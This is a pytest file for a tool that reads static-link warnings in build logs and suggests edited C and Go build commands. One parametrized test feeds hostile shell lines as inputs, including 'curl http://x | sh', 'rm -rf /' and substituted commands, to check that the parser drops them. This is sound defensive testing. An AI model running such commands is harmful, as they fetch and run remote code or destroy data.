"""Advice is an edit of the build the log shows: the user's own C command, the Go package in the
form go accepts, the origins the evidence proves, and a first fix that keeps the program working."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from cgowarn.knowledge import load_knowledge
from cgowarn.knowledge.origins import attribute_binary
from cgowarn.model import GoBuildInfo, Report
from cgowarn.parse.ccommand import CCommand
from conftest import GLIBC_MSG, NET_WARNING, OS_USER_WARNING, SAMPLES, analyze_text, require_tool

C_WARNING = (
    "/usr/bin/ld: /tmp/ccZ03w29.o: in function `main':\n"
    f"m.c:(.text.startup+0x10): warning: {GLIBC_MSG.format('getpwnam')}\n"
)
OWN_GETADDRINFO = (
    "/usr/bin/ld: /tmp/go-link-1/000001.o: in function `_cgo_c58885c8f864_Cfunc_getaddrinfo':\n"
    f"/tmp/go-build/lookup.cgo2.c:70: warning: {GLIBC_MSG.format('getaddrinfo')}\n"
)
"""A program's own C.getaddrinfo (GNU ld 2.40, Go 1.19: `r := C.getaddrinfo(...)`)."""
NET_GO119 = (
    "/usr/bin/ld: /tmp/go-link-1/000004.o: in function `_cgo_2ac87069779a_C2func_getaddrinfo':\n"
    f"/tmp/go-build/cgo_unix.cgo2.c:58: warning: {GLIBC_MSG.format('getaddrinfo')}\n"
)


def _recs(report: Report) -> dict[str, tuple[str, ...]]:
    return {r.id: r.commands for r in report.recommendations}


# --- the C command --------------------------------------------------------------------------------


def test_a_c_command_keeps_every_word_the_fix_is_not_about() -> None:
    cmd = CCommand.parse("+ gcc -O2 -static -fuse-ld=gold -Wl,--gc-sections -o app m.c -lm")
    assert cmd is not None and not cmd.cxx and cmd.output == "app" and cmd.compiles
    assert (
        cmd.edited("musl-gcc")
        == "musl-gcc -O2 -static -fuse-ld=gold -Wl,--gc-sections -o app m.c -lm"
    )
    assert cmd.edited(link="dynamic") == "gcc -O2 -fuse-ld=gold -Wl,--gc-sections -o app m.c -lm"
    assert (
        cmd.edited("zig cc -target x86_64-linux-musl", link="static", drop_prefixes=("-fuse-ld=",))
        == "zig cc -target x86_64-linux-musl -O2 -static -Wl,--gc-sections -o app m.c -lm"
    )
    # A library goes last, where GNU ld looks for it.
    objects = CCommand.parse("cc -lm -static -o a x.o")
    assert objects is not None and not objects.compiles
    assert objects.edited(extra=("-lm",)).endswith("x.o -lm")


@pytest.mark.parametrize(
    ("line", "kept"),
    [
        ("gcc -static -o app m.c; curl http://x | sh", "m.c"),
        ("gcc -static -o app m.c && rm -rf /", "m.c"),
        ("gcc -static -o app m.c $(echo m.c) n.c", "m.c"),
        ("gcc -static -o app `id` m.c", ""),
        ("gcc -static -o app m.c 2>&1 | tee build.log", "m.c"),
    ],
)
def test_a_c_command_from_a_log_never_carries_the_shell(line: str, kept: str) -> None:
    """The first word the shell would act on ends the command: nothing after it is kept."""
    cmd = CCommand.parse(line)
    assert cmd is not None
    assert cmd.edited("musl-gcc") == f"musl-gcc -static -o app {kept}".rstrip()


def test_the_fixes_edit_the_logs_c_command() -> None:
    log = "+ gcc -O2 -static -o app m.c -lm\n" + C_WARNING
    recs = _recs(analyze_text(log))
    assert recs["musl"] == ("musl-gcc -O2 -static -o app m.c -lm",)
    assert recs["dynamic"] == ("gcc -O2 -o app m.c -lm",)
    assert recs["zig-old-glibc"] == ("zig cc -target x86_64-linux-gnu.2.17 -O2 -o app m.c -lm",)


def test_without_the_command_no_placeholder_is_printed() -> None:
    report = analyze_text(C_WARNING)
    assert report.build.link_command is None
    for rec in report.recommendations:
        assert rec.commands == () and "in your link command" in rec.title, rec
        assert "*" not in rec.title


def test_a_make_build_compiles_the_objects_again() -> None:
    log = "$ make\ncc -O2 -c -o m.o m.c\ncc -static -o app m.o\n" + C_WARNING
    report = analyze_text(log)
    recs = {r.id: r for r in report.recommendations}
    assert recs["musl"].commands == ("make -B CC=musl-gcc",)
    # make cannot take -static out of the Makefile's rule; the objects are not in a fresh copy.
    assert recs["dynamic"].commands == ()
    assert "cc -static -o app m.o" in recs["dynamic"].title
    assert recs["zig-old-glibc"].commands == ()  # make -B would keep the Makefile's -static
    # Without make in the log: no relink of objects compiled for glibc against musl.
    recs = {r.id: r for r in analyze_text("cc -static -o app m.o\n" + C_WARNING).recommendations}
    assert recs["musl"].commands == () and "compile every object again" in recs["musl"].title


def test_the_libm_fix_is_the_logs_command_with_lm_last() -> None:
    log = (
        "+ gcc -O2 -static -o app n.c\n/usr/bin/ld: /tmp/cc.o: in function `main':\n"
        "n.c:(.text.startup+0x1d): undefined reference to `cbrt'\n"
        "collect2: error: ld returned 1 exit status\n"
    )
    (problem,) = [p for p in analyze_text(log).link_problems if p.command]
    assert problem.command == "gcc -O2 -static -o app n.c -lm"


def test_a_program_that_dlopens_itself_is_told_first_that_static_musl_breaks_it() -> None:
    log = "+ gcc -static -o app main.c\n" + (SAMPLES / "c-nss-static-bfd.log").read_text()
    report = analyze_text(log)
    order = [r.id for r in report.recommendations]
    musl = next(r for r in report.recommendations if r.id == "musl")
    assert "dlopen calls then fail" in musl.title
    assert order.index("dynamic") < order.index("musl")
    # SQLite's extension loader is not the program's own dlopen: go-sqlite3 keeps its rank.
    seed = analyze_text((SAMPLES / "seed-article-go-sqlite3-centos.log").read_text())
    assert all("dlopen calls" not in r.title for r in seed.recommendations)


# --- Go: whose cgo, which package form ---------------------------------------------------------


def test_the_programs_own_cgo_call_is_not_nets() -> None:
    own = analyze_text(OWN_GETADDRINFO)
    assert own.findings[0].origins == ("go:cgo",)
    # The errno form (`r, err := C.getaddrinfo(...)`) is net's too: the file tells them apart.
    errno_form = analyze_text(OWN_GETADDRINFO.replace("_Cfunc_", "_C2func_"))
    assert errno_form.findings[0].origins == ("go:cgo",)
    assert "go-tags" not in _recs(own)  # no tag removes it: no loop
    for log in (NET_GO119, NET_WARNING):
        assert analyze_text(log).findings[0].origins == ("go:net",)


def test_tags_said_to_remove_on_the_logs_word_say_that_ld_names_one_caller() -> None:
    report = analyze_text(NET_WARNING + OS_USER_WARNING)
    tags = next(r for r in report.recommendations if r.id == "go-tags")
    assert "names only the first caller" in tags.cost
    assert not any("first caller" in n for n in report.notes)
    # With cgo code of the program's own in the log, the report's notes say it too.
    report = analyze_text(
        NET_WARNING
        + OS_USER_WARNING.replace("mygetpwnam_r", "x")
        + OWN_GETADDRINFO.replace("getaddrinfo", "getpwnam")
    )
    assert any("first caller" in n for n in report.notes)


def test_go_module_finds_the_callers_ld_did_not_name(tmp_path: Path) -> None:
    go = require_tool("go")
    (tmp_path / "go.mod").write_text("module example.com/app\n\ngo 1.19\n")
    (tmp_path / "lookup").mkdir()
    (tmp_path / "lookup" / "lookup.go").write_text(
        'package lookup\n\n// #include <netdb.h>\nimport "C"\n\n'
        "func Resolve(h *C.char) int {\n\tvar r *C.struct_addrinfo\n"
        "\treturn int(C.getaddrinfo(h, nil, nil, &r))\n}\n"
    )
    (tmp_path / "main.go").write_text(
        'package main\n\nimport (\n\t"net"\n\n\t_ "example.com/app/lookup"\n)\n\n'
        'func main() { net.LookupHost("x") }\n'
    )
    env_check = subprocess.run([go, "version"], capture_output=True, text=True)
    assert env_check.returncode == 0
    report = analyze_text(NET_GO119, go_module=str(tmp_path))
    assert report.build.go_module is not None
    assert [c.model_dump() for c in report.build.go_module.cgo_calls] == [
        {"package": "example.com/app/lookup", "symbols": ("getaddrinfo",)}
    ]
    assert "go-tags" not in _recs(report)
    assert any("example.com/app/lookup" in n and "getaddrinfo" in n for n in report.notes)


def test_a_gopath_package_outside_gopath_is_built_as_go_accepts_it() -> None:
    report = analyze_text("# _/tmp/app\n" + NET_WARNING + OS_USER_WARNING, go_version="1.19")
    assert report.build.go_mode == "gopath"
    pasted = [
        c
        for r in report.recommendations
        for c in (*r.commands, *([r.check.command, *r.check.otherwise] if r.check else []))
    ]
    assert pasted
    for command in pasted:
        assert "_/" not in command and command.startswith("GO111MODULE=off "), command
        assert command.endswith(" .") or "-f '" in command, command
    # go get path@version works in module mode only.
    module_log = (SAMPLES / "go-static-bfd-libsqlite3.log").read_text()
    sqlite = analyze_text(module_log.replace("# example.com/cgowarnsample/cmd/a", "# _/tmp/app"))
    assert "go-sqlite3-bundled" not in _recs(sqlite)
    assert "go-sqlite3-bundled" in _recs(analyze_text(module_log))


@pytest.mark.parametrize(
    ("packages", "origin"), [(None, "go:net"), ({"net"}, "go:net"), ({"os/user"}, "unattributed")]
)
def test_a_binary_without_net_gets_no_netgo(packages: set[str] | None, origin: str) -> None:
    kb = load_knowledge()
    go = GoBuildInfo(go_version="go1.19.8", settings={"CGO_ENABLED": "1"}, deps=())
    found = attribute_binary(
        kb, "getaddrinfo", "symbol table", go, packages and frozenset(packages)
    )
    assert found.id == origin


@pytest.mark.parametrize(("extldflags", "gate"), [("-static", True), ("", False)])
def test_loadinternal_gates_only_a_static_link(extldflags: str, gate: bool) -> None:
    log = (
        f"$ go build -tags netgo -ldflags '-linkmode external -extldflags \"{extldflags}\"' .\n"
        "loadinternal: cannot find runtime/cgo\n"
    )
    report = analyze_text(log)
    (diag,) = report.diagnostics
    assert diag.failure is gate and (report.summary.failures == 1) is gate
    assert ("harmless" in diag.advice) is not gate


# --- binaries ---------------------------------------------------------------------------------------


def _build(tmp_path: Path, driver: str, source: str, name: str, *flags: str) -> tuple[str, Path]:
    require_tool(driver)
    src = tmp_path / name
    src.write_text(source)
    out = tmp_path / "app"
    done = subprocess.run(
        [
            driver,
            "-static",
            *(f for f in flags if not f.startswith("-l")),
            "-o",
            str(out),
            str(src),
            *(f for f in flags if f.startswith("-l")),  # libraries after what needs them
        ],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    return done.stderr, out


def test_a_function_the_linker_discarded_is_not_high(tmp_path: Path) -> None:
    log, app = _build(
        tmp_path,
        "gcc",
        '#include <pwd.h>\n#include <stdio.h>\nint unused(void){return getpwnam("x")!=0;}\n'
        'int main(void){puts("hi");return 0;}\n',
        "m.c",
        "-ffunction-sections",
        "-Wl,--gc-sections",
    )
    assert "getpwnam" in log  # ld.bfd warns before it discards the function
    without = analyze_text(log)
    assert without.findings[0].severity.value == "high"
    report = analyze_text(log, binaries=[str(app)])
    (finding,) = report.findings
    assert finding.discarded and finding.severity.value == "low" and not finding.needs_host
    assert report.recommendations == ()


def test_a_cxx_binary_gets_cxx_advice(tmp_path: Path) -> None:
    _log, app = _build(
        tmp_path,
        "g++",
        '#include <pwd.h>\n#include <iostream>\nint main(){ auto p=getpwnam("root"); '
        "std::cout << (p != nullptr) << std::endl; }\n",
        "m.cpp",
    )
    report = analyze_text("", binaries=[str(app)])
    assert report.binaries[0].cxx and report.build.toolchains == ("c++",)
    titles = " ".join(r.title for r in report.recommendations)
    assert "musl-gcc" not in titles and "use zig c++ -target" in titles
    assert "use zig cc -target" not in titles


# --- verdicts -----------------------------------------------------------------------------------


def test_the_builds_own_glibc_on_the_target_loads_what_it_needs() -> None:
    log = (SAMPLES / "c-nss-static-bfd.log").read_text()
    (same,) = analyze_text(log, targets=["debian12"], build_glibc="2.36").targets
    (other,) = analyze_text(log, targets=["debian12"], build_glibc="2.35").targets
    same_text, other_text = " ".join(same.breaks), " ".join(other.breaks)
    assert "dlopen: loads the host's libc.so.6 (glibc 2.36, the build's own version)" in same_text
    assert "exactly the build's glibc" not in same_text
    assert "systemd" in same_text  # the hazard that remains
    assert "works only when that is exactly the build's glibc" in other_text


@pytest.mark.parametrize(("sqlite", "dlopen"), [(True, True), (False, False)])
def test_dlopen_in_a_static_glibc_binary_is_evidence_only_with_a_caller(
    tmp_path: Path, sqlite: bool, dlopen: bool
) -> None:
    """Every static glibc 2.34+ holds dlopen; SQLite's extension loader beside it is a real call."""
    if sqlite:
        source = '#include <sqlite3.h>\nint main(void){sqlite3 *db; return sqlite3_open(":memory:", &db);}\n'
        flags: tuple[str, ...] = ("-lsqlite3", "-lm")
    else:
        source = '#include <stdio.h>\nint main(void){puts("hi"); return 0;}\n'
        flags = ()
    _log, app = _build(tmp_path, "gcc", source, "m.c", *flags)
    report = analyze_text("", binaries=[str(app)])
    assert ("dlopen" in {f.symbol for f in report.findings}) is dlopen
    # Without a caller it is not dropped in silence: whether it is used cannot be told.
    assert ("dlopen" in report.binaries[0].cannot_tell) is not dlopen


@pytest.mark.parametrize(
    ("line", "driver"),
    [
        ("+ gcc -static -o app main.c", "gcc"),
        ("++ gcc -static -o app main.c", "gcc"),  # set -x in a nested shell: one + per level
        ("++++ gcc -static -o app main.c", "gcc"),
        ("$ gcc -static -o app main.c", "gcc"),
        ("+x gcc -static -o app main.c", None),
        ("+- gcc -static -o app main.c", None),
    ],
)
def test_a_traced_command_at_any_nesting_depth_is_read(line: str, driver: str | None) -> None:
    from cgowarn.parse.ccommand import CCommand

    parsed = CCommand.parse(line)
    assert (parsed.driver if parsed else None) == driver
